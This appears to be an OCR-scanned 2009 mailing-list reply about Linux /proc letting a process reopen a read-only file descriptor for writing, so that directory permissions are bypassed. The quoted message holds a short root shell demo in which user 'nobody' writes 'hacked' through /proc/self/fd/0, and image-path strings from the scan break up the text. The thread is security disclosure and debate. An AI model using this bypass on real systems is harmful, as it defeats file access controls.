[Date Prev][Date Next][Thread Prev][Thread Next][Date Index][Thread Index]

Re: /proc filesystem allows bypassing directory permissions on Linux


Sorry, but your 'prove' below is wrong!

You are opening the locked down file as root and passing that
fd as input to the nobody process.

So nobody is not opening /dir/file.txt (he can't because he hasn't
access to it via /dir) but root is...
Therefor the write to the fd is failing, because you're passing a
read-only file descriptor.

Try to replay your scenario in separate shells, without the use of
sudo and redirection.

Best regards,

On 29 okt 2009, at 21:10, Jim Paris wrote:

0700 mode from the origin, you would be right, and procfs wouldn't allow opening files in that directory too, but if you let others to traverse that directory and open your believed to be secure files from the origin,
it's your fault.

I can do the example with fd passing and 700 directory, but it would
be lot of C code. Feel free to play, my example was not nearly the
only way to demonstrate it, and no, it was not racy.

Here is an example that shows the behavior where a passed read-only fd
can become read-write by reopening it through /proc, when file
permissions allow it (but directory permissions do not):

 $ sudo su
 # mkdir -m 0700 /dir
 # echo "safe" > /dir/file.txt
 #chmod 0666 /dir/file.txt
 # ls -al /dir
 total 12
 drwx---  2 root root 4096 2009-10-29 00:28 .
 drwxr-xr-x 27 root root 4096 2009-10-29 00:28 ..
 -rw-rw-rw-  1 root root    7 2009-10-29 00:43 file.txt
 # cat /dir/file.txt

Now user "nobody" cannot read or write this file:

 # su nobody -c 'cat /dir/file.txt'
 sh: /dir/file.txt: Permission denied
 # su nobody -c 'echo "hacked" > /dir/file.txt'
 sh: /dir/file.txt: Permission denied
 # cat /dir/file.txt

If we provide an open read-only file descriptor (as stdin, fd 0), they
can read it:

 # su nobody -c 'cat <&0' < /dir/file.txt

But they still can't write to this descriptor:

 # su nobody -c 'echo "hacked" >&0' < /dir/file.txt
 sh: line 0: echo: write error: Bad filedescriptor

Unless we re-open the file using the magic link in /proc:

 # sunobody -c 'echo "hacked" >/proc/self/fd/0' < /dir/file.txt
 # cat /dir/file.txt

Again, debatable whether this is a bug, but it's certainly
non-obvious.There is no other way (that I'm aware) for the "nobody"user to gain write access to /dir/file.txt, even when given aread-only fd, without using /proc.